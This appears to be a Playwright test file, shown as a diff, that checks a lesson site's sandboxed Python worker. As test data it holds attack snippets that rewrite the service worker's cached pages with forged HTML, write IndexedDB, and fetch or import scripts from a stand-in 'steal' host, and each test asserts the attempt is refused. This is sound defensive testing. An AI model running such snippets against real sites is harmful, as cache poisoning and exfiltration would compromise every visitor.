@@ -1,0 +1,190 @@
+"""A reader's code is a guest: Python run from a lesson block cannot reach the site's storage or the network.
+
+The page runs Python in a worker started from a ``data:`` URL (``docs/runner/python-session.js``): an
+opaque origin, under the page's policy. Each test below runs, from a lesson block as a reader would, an
+attack that worked before that change (``js.caches`` rewriting a precached page, which the service
+worker would then serve on every visit; an IndexedDB write; ``js.fetch``, ``open_url`` and
+``importScripts`` to the site and to another origin; ``js.eval``), checks that the block's output says
+it was refused and why, and checks from the page that nothing of the site's storage changed.
+"""
+
+from __future__ import annotations
+
+from playwright.sync_api import Page, expect
+
+from tests.browser.conftest import handled, poll
+from tests.browser.test_offline import _controlled
+from tests.browser.test_runner import LESSON, _block, _editor, _run
+
+# Python that tries to replace every cached copy of the lesson page with a page of its own, in the
+# background (the block returns at once): what a reader could paste from somewhere else. Pyodide's `js`
+# module does not hand out the worker's own `caches` (its getter refuses Pyodide's stand-in for the
+# worker's global), so the attack goes through JavaScript source, as it did before the worker was contained.
+_CACHE_ATTACK = """
+import js
+
+forge = (
+    "caches.keys().then((names) => names.forEach((name) => caches.open(name).then((cache) =>"
+    " cache.put({lesson!r}, new Response('<h1>forged</h1>', {{ headers: {{ 'Content-Type': 'text/html' }} }})))))"
+)
+for label, attempt in [("eval", lambda: js.eval(forge)), ("caches", lambda: js.caches.keys())]:
+    try:
+        attempt()
+        print(label, "reachable")
+    except Exception as error:
+        print(label, "refused:", str(error).splitlines()[0].split(" because ")[0])
+"""
+
+_INDEXED_DB_ATTACK = """
+import js
+
+for label, attempt in [
+    ("eval", lambda: js.eval("indexedDB.open('forged-by-a-block')")),
+    ("indexedDB", lambda: js.indexedDB.open("forged-by-a-block")),
+]:
+    try:
+        attempt()
+        print(label, "reachable")
+    except Exception as error:
+        print(label, "refused:", str(error).splitlines()[0].split(" because ")[0])
+"""
+
+# js.fetch answers with a promise: its outcome lands in `fetched` (read by the next run) once it settles.
+_FETCH_ATTACK = """
+import js
+from pyodide.ffi import create_proxy
+
+fetched = {{}}
+for label, url in [("site", {site!r}), ("other", "http://127.0.0.2:9/steal")]:
+    fetched[label] = "pending"
+    def settle(outcome, label=label):
+        fetched[label] = outcome
+    js.fetch(url).then(
+        create_proxy(lambda response, settle=settle: settle(f"answered {{response.status}}")),
+        create_proxy(lambda error, settle=settle: settle(f"refused: {{error}}")),
+    )
+"""
+
+_SYNCHRONOUS_ATTACKS = """
+import js
+from pyodide.http import open_url
+
+for label, attempt in [
+    ("open_url site", lambda: open_url({site!r})),
+    ("open_url other", lambda: open_url("http://127.0.0.2:9/steal")),
+    ("importScripts", lambda: js.importScripts("http://127.0.0.2:9/steal.js")),
+]:
+    try:
+        attempt()
+        print(label, "reachable")
+    except Exception as error:
+        print(label, "refused:", str(error).splitlines()[0])
+"""
+
+_PAGE_COPY = """async (url) => {
+  const copies = [];
+  for (const name of await caches.keys()) {
+    const found = await (await caches.open(name)).match(url + "index.html", { ignoreSearch: true });
+    if (found) copies.push([name, await found.text()]);
+  }
+  return copies;
+}"""
+
+
+# What Python says when the policy refuses js.eval: the browser's EvalError, or, now and then, the error Pyodide
+# 0.27 raises instead when the refusal reaches it (a SystemError with this text; seen in about one run in three).
+_EVAL_REFUSED = (
+    "eval refused: EvalError: Evaluating a string as JavaScript violates the following Content Security Policy directive",
+    "eval refused: error return without exception set",
+)
+
+
+def _refused_eval(line: str) -> bool:
+    return line in _EVAL_REFUSED
+
+
+def _output(page: Page, n: int) -> str:
+    return _block(page, n).locator("[data-runner-output]").text_content() or ""
+
+
+def _edit_and_run(page: Page, n: int, code: str) -> str:
+    _editor(page, n).fill(code)
+    _run(page, n)
+    return _output(page, n)
+
+
+def test_a_block_cannot_rewrite_the_sites_cached_pages(open_page, site_url: str) -> None:
+    page = open_page(service_workers="allow")
+    url = site_url + LESSON
+    page.goto(url)
+    _controlled(page)  # the worker has installed: the precache holds the lesson
+    before = page.evaluate(_PAGE_COPY, url)
+    assert before and all("<h1>forged</h1>" not in text for _, text in before)
+
+    output = _edit_and_run(page, 1, _CACHE_ATTACK.format(lesson=url + "index.html"))
+    lines = output.splitlines()
+    assert _refused_eval(lines[0]), output
+    assert lines[1:] == ["caches refused: TypeError: Illegal invocation"], output
+    handled(page)
+    assert page.evaluate(_PAGE_COPY, url) == before
+    page.reload()
+    expect(page.locator("h1")).to_contain_text("Scaled dot-product attention, step by step")
+
+
+def test_a_block_cannot_write_the_sites_indexeddb(page: Page, site_url: str) -> None:
+    page.goto(site_url + LESSON)
+    output = _edit_and_run(page, 1, _INDEXED_DB_ATTACK)
+    lines = output.splitlines()
+    assert _refused_eval(lines[0]), output
+    assert lines[1:] == ["indexedDB refused: TypeError: Illegal invocation"], output
+    handled(page)
+    names = page.evaluate("async () => (await indexedDB.databases()).map((database) => database.name)")
+    assert "forged-by-a-block" not in names
+
+
+def test_the_worker_that_runs_a_readers_code_has_an_origin_of_its_own(page: Page, site_url: str) -> None:
+    """Under the policy and Pyodide's `js` module, the worker itself can reach none of the site's storage."""
+    page.goto(site_url + LESSON)
+    _run(page, 1)
+    (worker,) = [each for each in page.workers if each.url.startswith("data:text/javascript,")]
+    found = worker.evaluate(
+        """async () => {
+          const outcome = async (attempt) => { try { await attempt(); return "reachable"; } catch (e) { return e.name + ": " + e.message; } };
+          return {
+            origin: self.origin,
+            caches: await outcome(() => caches.open("forged")),
+            indexedDB: await outcome(() => indexedDB.open("forged")),
+            serviceWorker: await outcome(() => navigator.serviceWorker.getRegistrations()),
+          };
+        }"""
+    )
+    assert found["origin"] == "null"
+    assert found["caches"].startswith("SecurityError: Failed to read the 'caches' property"), found
+    assert found["indexedDB"].startswith("SecurityError: Failed to execute 'open' on 'IDBFactory'"), found
+    assert found["serviceWorker"] != "reachable", found
+
+
+def test_a_block_has_no_network_of_its_own(page: Page, site_url: str) -> None:
+    page.goto(site_url + LESSON)
+    _edit_and_run(page, 1, _FETCH_ATTACK.format(site=site_url + "sitemap.xml"))
+    # The promises settle after the block; a later run reads their outcome.
+    read = "print(fetched['site']); print(fetched['other'])"
+    _editor(page, 2).fill(read)
+
+    def outcome() -> list[str]:
+        _run(page, 2)
+        return _output(page, 2).splitlines()
+
+    lines = poll(page, outcome, lambda lines: "pending" not in lines, "js.fetch never settled")
+    refusal = (
+        "refused: TypeError: Python in this page has no network: it runs apart from the site, in a worker that can "
+        "reach neither other sites nor what the site stores (it asked for {})."
+    )
+    assert lines == [refusal.format(site_url + "sitemap.xml"), refusal.format("http://127.0.0.2:9/steal")], lines
+
+    output = _edit_and_run(page, 3, _SYNCHRONOUS_ATTACKS.format(site=site_url + "sitemap.xml"))
+    assert output.splitlines() == [
+        f"open_url site refused: NetworkError: Failed to execute 'send' on 'XMLHttpRequest': Failed to load '{site_url}sitemap.xml'.",
+        "open_url other refused: NetworkError: Failed to execute 'send' on 'XMLHttpRequest': Failed to load 'http://127.0.0.2:9/steal'.",
+        "importScripts refused: TypeError: Illegal invocation",
+    ], output  # the site does not answer an opaque origin (no CORS), and the policy refuses other hosts
